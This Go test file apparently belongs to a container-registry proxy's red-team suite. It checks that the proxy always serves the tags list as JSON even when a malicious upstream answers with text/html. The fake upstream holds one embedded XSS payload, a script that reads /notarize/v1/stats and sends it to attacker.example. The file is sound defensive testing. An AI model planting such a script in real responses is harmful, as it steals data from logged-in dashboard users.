package proxy_test

import (
	"net/http"
	"strings"
	"testing"
)

// Red team 6: the tags list is relayed with the upstream's Content-Type.
// A lying upstream answering text/html makes the proxy serve the
// upstream's HTML (script) on the proxy's own origin, where the dashboard
// lives and where a browser that logged in to the dashboard sends its
// Basic credentials: the script can read /notarize/v1/stats and pull what
// that user may pull. The answer must be JSON whatever the upstream says.
func TestRedteam6TagsListServedAsHTML(t *testing.T) {
	ev := newEvil(t)
	e := newEnv(t, withUpstream(ev.config()))
	ev.serve(func(w http.ResponseWriter, r *http.Request) {
		if !strings.HasSuffix(r.URL.Path, "/tags/list") {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = w.Write([]byte(`<html><script>fetch("/notarize/v1/stats").then(r=>r.text()).then(t=>fetch("https://attacker.example/?"+t))</script></html>`))
	})
	code, h, body := e.do(http.MethodGet, "/v2/evil/app/tags/list", nil)
	ct := h.Get("Content-Type")
	if code == http.StatusOK && !strings.HasPrefix(ct, "application/json") {
		t.Errorf("BYPASS (XSS): the proxy served the upstream's tags answer as %q on its own origin (nosniff %q): %s", ct, h.Get("X-Content-Type-Options"), body)
	}
}
